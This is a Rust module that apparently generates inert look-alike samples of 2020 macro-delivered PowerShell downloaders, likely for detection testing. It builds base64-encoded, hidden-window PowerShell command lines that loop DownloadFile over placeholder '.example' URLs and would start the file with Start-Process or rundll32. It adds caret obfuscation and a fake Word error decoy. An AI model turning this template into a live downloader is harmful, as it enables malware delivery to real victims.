//! The PowerShell text inside the look-alikes, and the command lines that carry it.
//!
//! Inert twice over: the hosts are `.example`, and what would be started is started only when a file is
//! shorter than nothing.

use super::Chance;
use crate::forge::ovba;

/// The shapes of 2020 whose carrier is a macro.
#[derive(Debug, Clone, Copy, PartialEq, Eq, serde::Serialize)]
#[serde(rename_all = "lowercase")]
pub enum Shape {
    /// July: PowerShell, 5–7 URLs in one literal, a program.
    E1,
    /// December: through `cmd` with carets and a false error, a library by `rundll32`.
    E2,
    /// July, with the text in the controls of a form.
    E3,
}

impl Shape {
    /// Its name in truth files.
    pub fn name(self) -> &'static str {
        match self {
            Self::E1 => "e1",
            Self::E2 => "e2",
            Self::E3 => "e3",
        }
    }
}

/// Five to seven URLs, as on blogs that were broken into.
pub(in crate::forge) fn urls(chance: &mut Chance) -> Vec<String> {
    const FOLDERS: [&str; 7] =
        ["wp-content", "wp-admin", "wp-includes", "cgi-bin", "images", "blog", "assets"];
    (0..chance.between(5, 7))
        .map(|_| {
            let scheme = if chance.one_in(4) { "https" } else { "http" };
            let www = if chance.one_in(2) { "www." } else { "" };
            let host = format!("{www}{}-{}.example", chance.word(3, 7), chance.word(4, 8));
            let tail = format!("{}{}", chance.word(3, 6), chance.below(1_000));
            format!("{scheme}://{host}/{}/{tail}/", chance.pick(&FOLDERS))
        })
        .collect()
}

/// The script for a shape.
pub(in crate::forge) fn script(shape: Shape, urls: &[String], chance: &mut Chance) -> String {
    let [file, client, list, item] = [(); 4].map(|()| format!("${}", chance.identifier()));
    let mark = if shape == Shape::E2 { '@' } else { *chance.pick(&['*', '*', '@']) };
    let split = match chance.below(3) {
        0 => format!(".Split('{mark}')"),
        1 => format!(".\"sPl`iT\"([char]{})", u32::from(mark)),
        _ => format!(".split([char]{})", u32::from(mark)),
    };
    let joined = urls.join(&mark.to_string());
    let (extension, start) = match (shape, chance.below(3)) {
        (Shape::E2, _) => ("dll", format!("&('rundll32') {file},'RunDLL'")),
        (_, 0) => ("exe", format!("Start-Process {file}")),
        (_, 1) => ("exe", format!("[Diagnostics.Process]::Start({file})")),
        (_, _) => ("exe", format!("Invoke-Item {file}")),
    };
    let folder = *chance.pick(&["$env:userprofile", "$env:temp", "$env:public"]);
    let number = chance.between(100, 999);
    let junk = format!("${}='{}'", chance.identifier(), chance.identifier());
    let web = *chance.pick(&["Net.WebClient", "nEt.weBcLIeNt", "System.Net.WebClient"]);
    format!(
        "{junk};{file}={folder}+'\\'+'{number}'+'.{extension}';{client}=New-Object {web};{list}='{joined}'{split};\
         foreach({item} in {list}){{try{{{client}.DownloadFile({item},{file});\
         if((Get-Item {file}).Length -lt 0){{{start};break}}}}catch{{}}}}"
    )
}

/// The command line that carries a script.
pub(in crate::forge) fn command(shape: Shape, script: &str, chance: &mut Chance) -> String {
    const HEADS: [&str; 5] = [
        "powersheLL -e ",
        "POwersheLL -ENCOD ",
        "powershell -w hidden -en ",
        "powershell.exe -NoP -NonI -W Hidden -EncodedCommand ",
        "PowerShell -nop -windowstyle hidden -ec ",
    ];
    let head = match shape {
        Shape::E1 | Shape::E3 => chance.pick(&HEADS).to_string(),
        Shape::E2 => {
            "cmd cmd cmd cmd /c msg %username% /v Word experienced an error trying to open the file. & \
                      P^Ow^er^she^L^L -w hidden -ENCOD "
                .to_owned()
        }
    };
    head + &base64(&ovba::utf16(script))
}

/// Base64 (RFC 4648 §4), without line breaks.
pub(in crate::forge) fn base64(bytes: &[u8]) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::with_capacity(bytes.len().div_ceil(3) * 4);
    for group in bytes.chunks(3) {
        let held =
            group.iter().fold(0u32, |held, byte| held << 8 | u32::from(*byte)) << (8 * (3 - group.len()));
        for digit in 0..4 {
            let index = (held >> (18 - 6 * digit)) & 63;
            out.push(if digit <= group.len() { char::from(ALPHABET[index as usize]) } else { '=' });
        }
    }
    out
}
